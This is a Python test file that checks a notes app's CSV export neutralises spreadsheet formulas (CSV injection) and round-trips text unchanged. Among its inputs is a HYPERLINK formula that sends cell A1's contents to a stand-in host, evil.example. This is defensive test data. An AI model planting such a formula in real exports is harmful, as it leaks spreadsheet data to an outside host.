"""CSV export never writes a live spreadsheet formula (CSV injection), and import gives back
exactly the text that was written."""

import csv
import io

from codesign.export import export_file, import_file
from codesign.model import Board, Cluster, Note

TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 29 2000 0000",
    "-2 stars",
    "@SUM(A1:A3)",
    "\tindented",
    "'=already quoted",
    "''+twice",
    "'apostrophe first",
    "Plain English letters",
]


def test_formula_cells_are_written_as_text_and_read_back_unchanged(tmp_path):
    notes = tuple(Note(id=f"n{i}", x=i * 200.0, text=text) for i, text in enumerate(TEXTS))
    theme = Cluster(id="c1", x=-50, y=-100, width=2000, height=400, title="=1+1", members=("n0",))
    board = Board(items=(theme, *notes))
    path = tmp_path / "notes.csv"
    export_file(board, path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row[:5]]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")]
    assert "'=1+1" in cells and "'-2 stars" in cells and "'''+twice" in cells
    assert "'apostrophe first" in cells and "Plain English letters" in cells
    back = import_file(path)
    assert sorted(n.text for n in back.of_kind(Note)) == sorted(TEXTS)
    assert [c.title for c in back.of_kind(Cluster)] == ["=1+1"]
